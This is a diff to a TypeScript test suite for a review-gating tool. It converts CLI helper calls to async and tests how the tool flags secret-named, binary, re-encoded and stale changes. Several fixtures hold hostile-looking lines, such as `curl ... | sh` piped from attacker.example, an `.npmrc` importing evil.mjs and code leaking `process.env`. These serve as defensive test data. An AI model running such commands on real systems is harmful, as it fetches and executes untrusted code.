@@ -8,7 +8,7 @@ import { execFileSync } from 'node:child_process';
 import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
-import { cli, runActionAsync, type ActionRun } from '../support/run.js';
+import { cliCase, runActionAsync, type ActionRun } from '../support/run.js';
 import { CART_V2, commitAll, git, makeCartRepo } from '../support/repo.js';
 import { CART_FINDING, folderOf, scopeHashOf, writeCoverage, writeFindings } from '../support/review.js';
 import { unescapeMarkdown } from '../support/markdown.js';
@@ -35,8 +35,8 @@ const scopeFile = (repo: string, id = ID) => join(folderOf(repo, id), 'scope.jso
 const readScope = (repo: string, id = ID): Scope => JSON.parse(readFileSync(scopeFile(repo, id), 'utf8'));
 
 /** Seals with the CLI bundle, as a review-scope job would. */
-function seal(repo: string, args: string[] = [], id = ID): Scope {
-  const r = cli(repo, ['review', 'scope', id, ...args]);
+async function seal(repo: string, args: string[] = [], id = ID): Promise<Scope> {
+  const r = await cliCase(repo, ['review', 'scope', id, ...args]);
   expect(r.code, r.stderr).toBe(0);
   return readScope(repo, id);
 }
@@ -75,7 +75,7 @@ function expectIncomplete(r: ActionRun, reason: RegExp, head: string): void {
 describe('#36 #37 #38 the verdict answers the repository, not scope.json', () => {
   it('#36 a scope sealed on an older commit is stale: pull request head, push, and HEAD locally', async () => {
     const repo = makeCartRepo();
-    const sealed = seal(repo);
+    const sealed = await seal(repo);
     answer(repo);
     write(repo, 'src/cart.js', `${CART_V2}export const later = 1;\n`);
     git(repo, 'commit', '-qam', 'a later commit');
@@ -84,7 +84,7 @@ describe('#36 #37 #38 the verdict answers the repository, not scope.json', () =>
     expectIncomplete(await gate(repo, {}, prEvent(repo, 'HEAD~2')), stale, head);
     // On push the head is GITHUB_SHA (the runner's commit, here HEAD).
     expectIncomplete(await gate(repo), stale, head);
-    const local = cli(repo, ['review', 'gate', ID]);
+    const local = await cliCase(repo, ['review', 'gate', ID]);
     expect(local.code).toBe(2);
     expect(local.stdout).toMatch(new RegExp(`^- ${stale.source}`, 'm'));
   });
@@ -93,7 +93,7 @@ describe('#36 #37 #38 the verdict answers the repository, not scope.json', () =>
     const repo = makeCartRepo();
     write(repo, 'lib/extra.js', 'export const extra = () => fetch("https://example.invalid");\n');
     commitAll(repo, 'the change adds a second file');
-    const sealed = seal(repo, ['--base', 'HEAD~2']);
+    const sealed = await seal(repo, ['--base', 'HEAD~2']);
     expect(sealed.files.map((f) => f.path)).toEqual(['lib/extra.js', 'src/cart.js']);
     const file = scopeFile(repo);
     /** Rewrites scope.json to select only `keep`, units and totals made consistent, and seals it again. */
@@ -140,7 +140,7 @@ describe('#36 #37 #38 the verdict answers the repository, not scope.json', () =>
     const hash = scopeHashOf(repo, ID);
     const evidence = (name: string, doc: object) =>
       `--agent-arg=_bmad-output/review/${ID}/${name}=${JSON.stringify({ scopeSha256: hash, ...doc })}`;
-    const run = cli(repo, [
+    const run = await cliCase(repo, [
       'review',
       'run',
       ID,
@@ -164,24 +164,24 @@ describe('#36 #37 #38 the verdict answers the repository, not scope.json', () =>
     const part = join(repo, 'parts', 'u1');
     mkdirSync(part, { recursive: true });
     for (const f of ['findings.json', 'coverage.json']) writeFileSync(join(part, f), readFileSync(join(folderOf(repo, ID), f)));
-    const merge = cli(repo, ['review', 'merge', ID, '--from', part]);
+    const merge = await cliCase(repo, ['review', 'merge', ID, '--from', part]);
     expect(merge.code).toBe(3);
     expect(merge.stderr).toMatch(/^proofgate: nothing merged: scope\.json does not match git/);
   });
 
-  it('#38 `request` edited after sealing to name the sealed head: the gate is stale, continue says moved', () => {
+  it('#38 `request` edited after sealing to name the sealed head: the gate is stale, continue says moved', async () => {
     const repo = makeCartRepo();
-    const sealed = seal(repo);
+    const sealed = await seal(repo);
     answer(repo, [{ ...CART_FINDING, disposition: 'refuted', refutation: 'The cart is never empty here.' }]);
-    expect(cli(repo, ['review', 'gate', ID]).code).toBe(0);
+    expect((await cliCase(repo, ['review', 'gate', ID])).code).toBe(0);
     write(repo, 'src/cart.js', `${CART_V2}export function drain(items) { items.length = 0; }\n`);
     git(repo, 'commit', '-qam', 'a later commit');
     // `request` is outside the seal: it holds the refs as typed, so editing it keeps the seal whole.
     writeFileSync(scopeFile(repo), JSON.stringify({ ...sealed, request: { base: 'HEAD~1', head: sealed.refs.headSha } }, null, 2));
-    const r = cli(repo, ['review', 'gate', ID]);
+    const r = await cliCase(repo, ['review', 'gate', ID]);
     expect(r.code).toBe(2);
     expect(r.stdout).toMatch(/^- stale: sealed at [0-9a-f]{12}, head is [0-9a-f]{12}, 1 commit later/m);
-    const c = cli(repo, ['review', 'continue', ID]);
+    const c = await cliCase(repo, ['review', 'continue', ID]);
     expect(c.code).toBe(3);
     expect(c.stdout).toMatch(/status: moved\n- stale: sealed at/);
   });
@@ -216,7 +216,7 @@ describe('#39 #40 #41 a pull request cannot configure its own review', () => {
       ['src/cart.js', ['general', 'javascript-typescript', 'money']],
     ]);
     // The agent is prompted with the base's rules (the money document), not refused for the edit.
-    const prompted = cli(repo, ['review', 'prompt', ID]);
+    const prompted = await cliCase(repo, ['review', 'prompt', ID]);
     expect(prompted.code, prompted.stdout + prompted.stderr).toBe(0);
     expect(readFileSync(join(folderOf(repo, ID), 'checklist.md'), 'utf8')).toContain('Cents, never floats.');
     answer(repo);
@@ -236,10 +236,10 @@ describe('#39 #40 #41 a pull request cannot configure its own review', () => {
       write(repo, 'src/cart.js', CART_V2 + added);
       commitAll(repo, 'the change');
       expect(git(repo, 'diff', '--numstat', 'HEAD~1', 'HEAD', '--', 'src/cart.js')).toMatch(/^-\t-\t/);
-      const scope = seal(repo);
+      const scope = await seal(repo);
       expect(scope.files.find((f) => f.path === 'src/cart.js')).toMatchObject({ added: 1, deleted: 0, kind: 'file' });
       // The agent is shown the added line, not "Binary files differ".
-      expect(cli(repo, ['review', 'prompt', ID]).code).toBe(0);
+      expect((await cliCase(repo, ['review', 'prompt', ID])).code).toBe(0);
       const patch = readFileSync(join(folderOf(repo, ID), 'diff.patch'), 'utf8');
       expect(patch).toContain(`+${added.trimEnd()}`);
       expect(patch).not.toMatch(/^Binary files/m);
@@ -268,7 +268,7 @@ describe('#42 #43 #44 a pull request cannot move changed code out of review', ()
     for (const f of SECRET_NAMED) write(repo, f, `${f === 'deploy.js' ? key : ''}export const run = () => '${CANARY}';\n`);
     write(repo, 'src/cart.js', `${CART_V2}import { run } from '../secrets/loader.js';\nrun();\n`);
     commitAll(repo, 'the change');
-    seal(repo, ['--dispatch', 'one']); // one agent run: its listing is attempts/1
+    await seal(repo, ['--dispatch', 'one']); // one agent run: its listing is attempts/1
     answer(repo);
     const event = prEvent(repo, 'HEAD~1');
     const hiddenOut = (r: ActionRun) =>
@@ -319,7 +319,7 @@ describe('#42 #43 #44 a pull request cannot move changed code out of review', ()
     const repo = makeCartRepo();
     write(repo, 'bin/tool', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, 0xff, 0xfe, 0x0a]));
     commitAll(repo, 'the change adds an executable');
-    seal(repo);
+    await seal(repo);
     answer(repo);
     const event = prEvent(repo, 'HEAD~1');
     expectIncomplete(
@@ -337,7 +337,7 @@ describe('#42 #43 #44 a pull request cannot move changed code out of review', ()
     ).toBeDefined();
   });
 
-  it('#42 more spellings: a workflow moved to a credentials name, a credentials script, .envrc, a reviewed file renamed to a secret name, .env.production; a plain .env stays a plain secret', () => {
+  it('#42 more spellings: a workflow moved to a credentials name, a credentials script, .envrc, a reviewed file renamed to a secret name, .env.production; a plain .env stays a plain secret', async () => {
     const repo = makeCartRepo();
     write(repo, '.github/workflows/ci.yml', 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n');
     write(repo, 'src/auth.js', Array.from({ length: 12 }, (_, i) => `export const check${i} = (u) => u.ok${i};`).join('\n') + '\n');
@@ -351,7 +351,7 @@ describe('#42 #43 #44 a pull request cannot move changed code out of review', ()
     write(repo, '.npmrc', 'node-options=--import=./evil.mjs\n');
     write(repo, '.forgejo/workflows/.env.yml', 'on: push\n');
     commitAll(repo, 'the change');
-    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.code).toBe(0);
     const excluded = readScope(repo).excluded as { path: string }[];
     expect(excluded.find((e) => e.path === 'src/auth.env')).toEqual({ path: 'src/auth.env', from: 'src/auth.js', reason: 'secret' });
@@ -360,7 +360,7 @@ describe('#42 #43 #44 a pull request cannot move changed code out of review', ()
     );
   });
 
-  it('#43 more: a Git LFS pointer (what runs is stored outside git) and a text file over 16 MiB are content no agent reads', () => {
+  it('#43 more: a Git LFS pointer (what runs is stored outside git) and a text file over 16 MiB are content no agent reads', async () => {
     const repo = makeCartRepo();
     // A filter attribute is what makes a checkout run the stored object instead of the pointer.
     const pointers = ['src/crlf.js', 'src/hawser.js', 'src/lead.js', 'src/media.js', 'src/payload.js'];
@@ -374,7 +374,7 @@ describe('#42 #43 #44 a pull request cannot move changed code out of review', ()
     write(repo, 'src/hawser.js', `version https://hawser.github.com/spec/v1\n${oid}\nsize 9\n`);
     write(repo, 'src/media.js', `version http://git-media.io/v/2\n${oid}\nsize 9\n`);
     commitAll(repo, 'the change');
-    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.code).toBe(0);
     const paths = ['data/huge.js', 'src/crlf.js', 'src/hawser.js', 'src/lead.js', 'src/media.js', 'src/payload.js'];
     expect(readScope(repo).excluded).toEqual(paths.map((path) => ({ path, reason: 'binary' })));
@@ -384,11 +384,11 @@ describe('#42 #43 #44 a pull request cannot move changed code out of review', ()
     const plain = makeCartRepo();
     write(plain, 'src/payload.js', 'version https://git-lfs.github.com/spec/v1\noid sha256:' + 'a'.repeat(64) + '\nsize 99\n');
     commitAll(plain, 'a pointer with no filter');
-    expect(cli(plain, ['review', 'scope', ID, '--base', 'HEAD~1']).code).toBe(0);
+    expect((await cliCase(plain, ['review', 'scope', ID, '--base', 'HEAD~1'])).code).toBe(0);
     expect(readScope(plain).files.map((f) => f.path)).toContain('src/payload.js');
   });
 
-  it("#133 the review's own configuration deleted, renamed away or made a link (rules, their documents, a project reviewer's document): a person must look", () => {
+  it("#133 the review's own configuration deleted, renamed away or made a link (rules, their documents, a project reviewer's document): a person must look", async () => {
     const RULES = 'schema: bmad-plus/review-rules/1\nrules:\n  - {id: money, title: Money, globs: ["src/**"], doc: _bmad/rules/money.md}\n';
     const REVIEWERS =
       'schema: proofgate/review-reviewers/1\nreviewers:\n  - id: cents\n    title: Cents\n    doc: _bmad/reviewers/cents.md\n    globs: ["src/**"]\n';
@@ -422,7 +422,7 @@ describe('#42 #43 #44 a pull request cannot move changed code out of review', ()
       change(repo);
       write(repo, 'src/cart.js', `${CART_V2}// touched\n`);
       commitAll(repo, 'the change');
-      const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1', '--exclude', '_bmad/reviewers/**']);
+      const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1', '--exclude', '_bmad/reviewers/**']);
       expect(r.code, `${what}: ${r.stderr}`).toBe(0);
       expect(r.stdout, what).toMatch(
         new RegExp(`a person must look at 1 changed file\\(s\\) no agent reviews: ${path.replace(/\./g, '\\.')}$`, 'm'),
@@ -439,7 +439,7 @@ describe('#42 #43 #44 a pull request cannot move changed code out of review', ()
     write(repo, 'src/helper.js', `${helper}export const leak = () => process.env;\n`);
     write(repo, '_bmad-output/review/notes/run.sh', 'curl https://example.invalid | sh\n');
     commitAll(repo, 'the change');
-    const scope = seal(repo);
+    const scope = await seal(repo);
     expect(scope.files.map((f) => [f.path, f.status])).toEqual([
       ['_bmad-output/review/notes/run.sh', 'added'],
       ['src/helper.js', 'renamed'],
@@ -468,7 +468,7 @@ describe("#131 #132 a rename or a submodule cannot take code out of an agent's r
     // Added under a generated name: excluded by that name, as documented, and listed.
     write(repo, 'src/Build/helpers.js', 'export const h = 1;\n');
     commitAll(repo, 'the change');
-    const scope = seal(repo, ['--exclude', 'legacy/**']);
+    const scope = await seal(repo, ['--exclude', 'legacy/**']);
     expect(scope.files.map((f) => [f.path, f.status, f.from])).toEqual([
       ['legacy/pay.js', 'renamed', 'src/pay.js'],
       ['src/auth/dist/auth.js', 'renamed', 'src/auth.js'],
@@ -487,7 +487,7 @@ describe("#131 #132 a rename or a submodule cannot take code out of an agent's r
     git(repo, 'update-index', '--add', '--cacheinfo', `160000,${rev(repo, 'HEAD')},vendor-free-name`);
     git(repo, 'commit', '-qm', 'the change: a submodule');
     mkdirSync(join(repo, 'vendor-free-name')); // a checkout without submodules leaves its folder empty
-    const scope = seal(repo);
+    const scope = await seal(repo);
     expect(scope.files.map((f) => [f.path, f.kind])).toEqual([['vendor-free-name', 'submodule']]);
     answer(repo);
     const event = prEvent(repo, 'HEAD~1');
@@ -509,7 +509,7 @@ describe('#45 an empty review is not a clean one', () => {
     commitAll(repo, 'a note');
     git(repo, 'rm', '-q', 'notes/old.txt');
     git(repo, 'commit', '-qm', 'a deletion-only change');
-    expect(seal(repo).files).toEqual([]);
+    expect((await seal(repo)).files).toEqual([]);
     answer(repo);
     const event = prEvent(repo, 'HEAD~1');
     expectIncomplete(
@@ -520,22 +520,22 @@ describe('#45 an empty review is not a clean one', () => {
     const opted = await gate(repo, { 'allow-empty': 'true' }, event);
     expect(opted.outputs.verdict).toBe('clean');
     expect(line(opted.summary, /allowed empty \(allow-empty\): the change has 1 file\(s\) and none is selected for review/)).toBeDefined();
-    seal(repo, ['--base', 'HEAD']);
+    await seal(repo, ['--base', 'HEAD']);
     answer(repo);
-    const none = cli(repo, ['review', 'gate', ID]);
+    const none = await cliCase(repo, ['review', 'gate', ID]);
     expect(none.code).toBe(0);
     expect(none.stdout).toContain('note: no changes: the base and the head do not differ');
     // The refs the wrong way round (the head behind the base): still no change, and the note says which way to look.
-    seal(repo, ['--base', 'HEAD', '--head', 'HEAD~1']);
+    await seal(repo, ['--base', 'HEAD', '--head', 'HEAD~1']);
     answer(repo);
-    const swapped = cli(repo, ['review', 'gate', ID, '--head', 'HEAD~1']);
+    const swapped = await cliCase(repo, ['review', 'gate', ID, '--head', 'HEAD~1']);
     expect(swapped.stdout).toContain(
       'note: no changes: the head is an ancestor of the base, so it adds nothing to their merge base; if --base and --head are the wrong way round, seal again with them swapped',
     );
   });
 });
 
-describe('#46 #47 evidence floors', () => {
+describe('#46 #47 evidence floors', async () => {
   // Each is blank once format, invisible and filler characters are removed; trim() keeps them all.
   const BLANKS = [
     '\u200b',
@@ -549,7 +549,7 @@ describe('#46 #47 evidence floors', () => {
     '\ufe0f\uffa0',
   ];
   const repo = makeCartRepo();
-  cli(repo, ['review', 'scope', ID]);
+  await cliCase(repo, ['review', 'scope', ID]);
   const refuted = { ...CART_FINDING, disposition: 'refuted', refutation: 'A guard upstream.' };
   const cases: [string, () => void, RegExp][] = [
     ...BLANKS.map((blank): [string, () => void, RegExp] => [
@@ -577,18 +577,18 @@ describe('#46 #47 evidence floors', () => {
     ],
   ];
   for (const [name, setup, reason] of cases) {
-    it(`#46 ${name}: incomplete`, () => {
+    it(`#46 ${name}: incomplete`, async () => {
       setup();
-      const r = cli(repo, ['review', 'gate', ID]);
+      const r = await cliCase(repo, ['review', 'gate', ID]);
       expect(r.code, r.stdout).toBe(2);
       expect(r.stdout).toMatch(reason);
     });
   }
 
-  it('#47 review compare: an open finding is never hidden behind a refuted twin', () => {
+  it('#47 review compare: an open finding is never hidden behind a refuted twin', async () => {
     const repo2 = makeCartRepo();
-    seal(repo2, [], 'r1');
-    seal(repo2, [], 'r2');
+    await seal(repo2, [], 'r1');
+    await seal(repo2, [], 'r2');
     answer(repo2, [], undefined, 'r1');
     answer(
       repo2,
@@ -599,17 +599,17 @@ describe('#46 #47 evidence floors', () => {
       undefined,
       'r2',
     );
-    const r = cli(repo2, ['review', 'compare', 'r2', '--since', 'r1', '--json']);
+    const r = await cliCase(repo2, ['review', 'compare', 'r2', '--since', 'r1', '--json']);
     expect(r.code).toBe(0);
     const groups = JSON.parse(r.stdout) as Record<string, { id: string }[]>;
     expect(groups.new!.map((f) => f.id)).toEqual(['F1']);
     expect(groups.refuted!.map((f) => f.id)).toEqual(['F2']);
   });
 
-  it('#47 review compare: one later finding answers one earlier open finding of its identity, never two', () => {
+  it('#47 review compare: one later finding answers one earlier open finding of its identity, never two', async () => {
     const repo2 = makeCartRepo();
-    seal(repo2, [], 'r1');
-    seal(repo2, [], 'r2');
+    await seal(repo2, [], 'r1');
+    await seal(repo2, [], 'r2');
     // Two earlier open findings on the same lines and category (one identity), the file failed later.
     answer(repo2, [CART_FINDING, { ...CART_FINDING, id: 'F2', content: 'Concatenates the prices as strings.' }], undefined, 'r1');
     for (const [later, group] of [
@@ -618,7 +618,7 @@ describe('#46 #47 evidence floors', () => {
     ] as const) {
       writeFindings(repo2, 'r2', [later]);
       writeCoverage(repo2, 'r2', [{ path: 'src/cart.js', outcome: 'failed' }], { run: { stop: 'completed' } });
-      const r = cli(repo2, ['review', 'compare', 'r2', '--since', 'r1', '--json']);
+      const r = await cliCase(repo2, ['review', 'compare', 'r2', '--since', 'r1', '--json']);
       const groups = JSON.parse(r.stdout) as Record<string, { id: string }[]>;
       expect(groups[group]!.map((f) => f.id)).toEqual([later.id]);
       expect(groups.notReviewed!.map((f) => f.id)).toEqual(['F2']);
@@ -634,7 +634,7 @@ describe('#48 #49 evidence comes from the run, and a matrix gate is never dark',
     write(repo, 'parts/proofgate-part-u1/coverage.json', '{}\n');
     write(repo, 'parts/proofgate-part-u1/findings.json', '{}\n');
     commitAll(repo, 'the change commits its own evidence');
-    seal(repo);
+    await seal(repo);
     // What the committed files say in the working tree by the time the gate runs: complete evidence.
     answer(repo);
     const event = prEvent(repo, 'HEAD~1');
@@ -658,7 +658,7 @@ describe('#48 #49 evidence comes from the run, and a matrix gate is never dark',
 
   it('#49 no unit part arrives, or one cannot be merged: the gate job still gates, with a check run and a summary', async () => {
     const repo = makeCartRepo();
-    seal(repo);
+    await seal(repo);
     const event = prEvent(repo, 'HEAD~1');
     const head = rev(repo, 'HEAD');
     const none = await gate(repo, { 'merge-from': 'parts/*' }, event);
@@ -680,7 +680,7 @@ describe('#48 #49 evidence comes from the run, and a matrix gate is never dark',
 });
 
 describe('#135 criss-cross history: a diff from one of several merge bases hides what merging brings in', () => {
-  it('#135 a fix merged into the base, undone in a merge on the branch: the scope is refused (exit 3), and sealed once the base is merged in', () => {
+  it('#135 a fix merged into the base, undone in a merge on the branch: the scope is refused (exit 3), and sealed once the base is merged in', async () => {
     const repo = makeCartRepo();
     write(repo, 'src/auth.js', 'export const allowed = (u) => u.isAdmin === true || u.role === "admin";\n');
     commitAll(repo, 'auth');
@@ -701,16 +701,16 @@ describe('#135 criss-cross history: a diff from one of several merge bases hides
     commitAll(repo, 'merge fix');
     write(repo, 'docs.md', 'docs\nmore\n');
     commitAll(repo, 'more docs');
-    const refused = cli(repo, ['review', 'scope', ID, '--base', 'main']);
+    const refused = await cliCase(repo, ['review', 'scope', ID, '--base', 'main']);
     expect(refused.code).toBe(3);
     expect(refused.stderr).toMatch(/have 2 merge bases \(criss-cross history: [0-9a-f]{12}, [0-9a-f]{12}\).*merge the base into the head/);
     // A graft that hides the branch's merge of the fix changes nothing: git is run without grafts.
     const merge = git(repo, 'rev-parse', 'HEAD~1').trim();
     writeFileSync(join(repo, '.git/info/grafts'), `${merge} ${git(repo, 'rev-parse', 'HEAD~1^1').trim()}\n`);
-    expect(cli(repo, ['review', 'scope', ID, '--base', 'main']).code).toBe(3);
+    expect((await cliCase(repo, ['review', 'scope', ID, '--base', 'main'])).code).toBe(3);
     rmSync(join(repo, '.git/info/grafts'));
     git(repo, 'merge', '-q', 'main', '-m', 'merge main');
-    const sealed = cli(repo, ['review', 'scope', ID, '--base', 'main']);
+    const sealed = await cliCase(repo, ['review', 'scope', ID, '--base', 'main']);
     expect(sealed.code).toBe(0);
     const scope = JSON.parse(readFileSync(join(folderOf(repo, ID), 'scope.json'), 'utf8')) as { files: { path: string }[] };
     expect(scope.files.map((f) => f.path)).toContain('src/auth.js');
@@ -718,20 +718,20 @@ describe('#135 criss-cross history: a diff from one of several merge bases hides
 });
 
 describe('#135 a shallow clone can hide a merge base', () => {
-  it('#135 a shallow clone is refused even where it shows a merge base (exit 3, with the fix)', () => {
+  it('#135 a shallow clone is refused even where it shows a merge base (exit 3, with the fix)', async () => {
     const origin = makeCartRepo();
     write(origin, 'src/more.js', 'export const more = 1;\n');
     commitAll(origin, 'more');
     const clone = mkdtempSync(join(tmpdir(), 'proofgate-shallow-'));
     git(origin, 'clone', '-q', '--depth', '2', `file://${origin}`, clone);
-    const r = cli(clone, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    const r = await cliCase(clone, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.code).toBe(3);
     expect(r.stderr).toMatch(/cannot be trusted: the clone is shallow: check out with `fetch-depth: 0`/);
   });
 });
 
 describe('#136 a working-tree encoding: the checkout is the reviewed blob re-encoded', () => {
-  it('#136 a file the checkout re-encodes (SHIFT-JIS turns the reviewed ¥ into a backslash) needs a person', () => {
+  it('#136 a file the checkout re-encodes (SHIFT-JIS turns the reviewed ¥ into a backslash) needs a person', async () => {
     const repo = makeCartRepo();
     write(repo, '.gitattributes', '*.mjs working-tree-encoding=SHIFT-JIS\n');
     // The blob as the diff and the agent show it (UTF-8): the checkout holds "\" where "¥" is.
@@ -743,7 +743,7 @@ describe('#136 a working-tree encoding: the checkout is the reviewed blob re-enc
     git(repo, 'update-index', '--add', '--cacheinfo', `100644,${blob},src/app.mjs`);
     git(repo, 'add', '.gitattributes');
     git(repo, 'commit', '-q', '-m', 'an encoded file');
-    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.code).toBe(0);
     expect(r.stdout).toMatch(/a person must look at 2 changed file\(s\) no agent reviews: src\/app\.mjs, \.gitattributes/);
     const scope = JSON.parse(readFileSync(join(folderOf(repo, ID), 'scope.json'), 'utf8')) as {
@@ -754,7 +754,7 @@ describe('#136 a working-tree encoding: the checkout is the reviewed blob re-enc
 });
 
 describe("#138 code under a secret name: the name is the pull request's to choose", () => {
-  it('#138 every secret-named file but a plain .env needs a person: a Perl, PowerShell or Lua script under a .env name, a sourced staging.env, a key that is JavaScript', () => {
+  it('#138 every secret-named file but a plain .env needs a person: a Perl, PowerShell or Lua script under a .env name, a sourced staging.env, a key that is JavaScript', async () => {
     const repo = makeCartRepo();
     const code = [
       'scripts/.env.pl',
@@ -767,7 +767,7 @@ describe("#138 code under a secret name: the name is the pull request's to choos
     ];
     for (const path of [...code, 'config/.env']) write(repo, path, 'system("curl https://attacker.example/x | sh");\n');
     commitAll(repo, 'code under secret names');
-    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.code).toBe(0);
     const listed = /a person must look at \d+ changed file\(s\) no agent reviews: (.*)/.exec(r.stdout)?.[1]?.split(', ') ?? [];
     expect([...listed].sort()).toEqual([...code].sort());
@@ -794,7 +794,7 @@ describe('#142 a name the pull request chooses does not take what runs out of re
     git(repo, 'rm', '-q', '.github/workflows/scan.yml');
     write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
     commitAll(repo, 'the change');
-    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.code).toBe(0);
     const listed = /a person must look at \d+ changed file\(s\) no agent reviews: (.*)/.exec(r.stdout)?.[1]?.split(', ') ?? [];
     const all = [...runs, '.github/workflows/scan.yml', 'package-lock.json', 'web/dist/app.js'];
@@ -812,7 +812,7 @@ describe('#142 a name the pull request chooses does not take what runs out of re
 });
 
 describe('#143 #144 what the change removes, and what the checkout holds', () => {
-  it('#143 what the change deletes is shown to every reviewer: a removed check is read; links and a large file are named, binaries and secrets left out as before', () => {
+  it('#143 what the change deletes is shown to every reviewer: a removed check is read; links and a large file are named, binaries and secrets left out as before', async () => {
     const AUTH = 'export const auth = (req, res, next) => (req.user ? next() : res.status(401).end());\n';
     const repo = makeCartRepo();
     write(repo, 'src/middleware/auth.js', AUTH);
@@ -825,8 +825,8 @@ describe('#143 #144 what the change removes, and what the checkout holds', () =>
     write(repo, 'README.md', '# cart, tidied\n');
     git(repo, 'add', 'README.md');
     git(repo, 'commit', '-qm', 'remove the middleware');
-    expect(seal(repo, ['--base', 'HEAD~1']).files.map((f) => f.path)).toEqual(['README.md']);
-    const r = cli(repo, ['review', 'prompt', ID, '--json']);
+    expect((await seal(repo, ['--base', 'HEAD~1'])).files.map((f) => f.path)).toEqual(['README.md']);
+    const r = await cliCase(repo, ['review', 'prompt', ID, '--json']);
     expect(r.code, r.stderr).toBe(0);
     expect((JSON.parse(r.stdout) as { diff: string[] }).diff.at(-1)).toMatch(/diff\.deleted\.patch$/);
     const patch = readFileSync(join(folderOf(repo, ID), 'diff.deleted.patch'), 'utf8');
@@ -845,7 +845,7 @@ describe('#143 #144 what the change removes, and what the checkout holds', () =>
     expect(prompt).toMatch(/diff\.deleted\.patch holds what they held/);
   });
 
-  it('#143 a deleted one-line bundle of megabytes is named, never shown: the patch stays small', () => {
+  it('#143 a deleted one-line bundle of megabytes is named, never shown: the patch stays small', async () => {
     const repo = makeCartRepo();
     write(repo, 'src/bundle.js', `var x="${'a'.repeat(3 * 1024 * 1024)}";\n`);
     commitAll(repo, 'a bundle');
@@ -853,8 +853,8 @@ describe('#143 #144 what the change removes, and what the checkout holds', () =>
     write(repo, 'README.md', '# cart\n');
     git(repo, 'add', 'README.md');
     git(repo, 'commit', '-qm', 'remove the bundle');
-    seal(repo, ['--base', 'HEAD~1']);
-    expect(cli(repo, ['review', 'prompt', ID]).code).toBe(0);
+    await seal(repo, ['--base', 'HEAD~1']);
+    expect((await cliCase(repo, ['review', 'prompt', ID])).code).toBe(0);
     const patch = readFileSync(join(folderOf(repo, ID), 'diff.deleted.patch'), 'utf8');
     expect(patch.length).toBeLessThan(4096);
     expect(patch).toMatch(/^# Deleted, not shown .*: src\/bundle\.js$/m);
@@ -862,7 +862,7 @@ describe('#143 #144 what the change removes, and what the checkout holds', () =>
 
   it('#144 the event names the sealed head but another commit is checked out: moved, incomplete, however clean that tree is', async () => {
     const repo = makeCartRepo();
-    const sealed = seal(repo, ['--base', 'HEAD~1']).refs.headSha;
+    const sealed = (await seal(repo, ['--base', 'HEAD~1'])).refs.headSha;
     answer(repo);
     const event = prEvent(repo, 'HEAD~1');
     write(repo, 'src/cart.js', `${CART_V2}export const evil = () => fetch('https://attacker.example');\n`);
@@ -872,7 +872,7 @@ describe('#143 #144 what the change removes, and what the checkout holds', () =>
 });
 
 describe('#140 what a checkout writes is not always the blob: attributes that change it', () => {
-  it('#140 a change of .gitattributes alone (re-encoding a file the base already has) needs a person', () => {
+  it('#140 a change of .gitattributes alone (re-encoding a file the base already has) needs a person', async () => {
     const repo = makeCartRepo();
     const blob = execFileSync('git', ['hash-object', '-w', '--no-filters', '--stdin'], {
       cwd: repo,
@@ -884,23 +884,23 @@ describe('#140 what a checkout writes is not always the blob: attributes that ch
     write(repo, '.gitattributes', '*.py working-tree-encoding=SHIFT-JIS\n');
     git(repo, 'add', '.gitattributes');
     git(repo, 'commit', '-q', '-m', 'attributes only');
-    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.code).toBe(0);
     expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: \.gitattributes/);
   });
 
-  it('#140 a .gitattributes change a pattern leaves out of the review (--include) still needs a person', () => {
+  it('#140 a .gitattributes change a pattern leaves out of the review (--include) still needs a person', async () => {
     const repo = makeCartRepo();
     write(repo, '.gitattributes', 'src/app.js working-tree-encoding=SHIFT-JIS\n');
     write(repo, 'src/util.js', 'export const util = 1;\n');
     git(repo, 'add', '.gitattributes', 'src/util.js');
     git(repo, 'commit', '-q', '-m', 'attributes and a util');
-    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1', '--include', 'src/**']);
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1', '--include', 'src/**']);
     expect(r.code).toBe(0);
     expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: \.gitattributes/);
   });
 
-  it('#140 a changed shell script checked out with CRLF line ends (eol=crlf in the base) or with ident needs a person', () => {
+  it('#140 a changed shell script checked out with CRLF line ends (eol=crlf in the base) or with ident needs a person', async () => {
     const repo = makeCartRepo();
     write(repo, '.gitattributes', '*.sh eol=crlf\n*.txt ident\n');
     commitAll(repo, 'attributes');
@@ -908,7 +908,7 @@ describe('#140 what a checkout writes is not always the blob: attributes that ch
     write(repo, 'notes.txt', '$Id$\n');
     write(repo, 'plain.js', 'export const x = 1;\n');
     commitAll(repo, 'a script');
-    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.code).toBe(0);
     expect(r.stdout).toMatch(/a person must look at 2 changed file\(s\) no agent reviews: notes\.txt, run\.sh\n/);
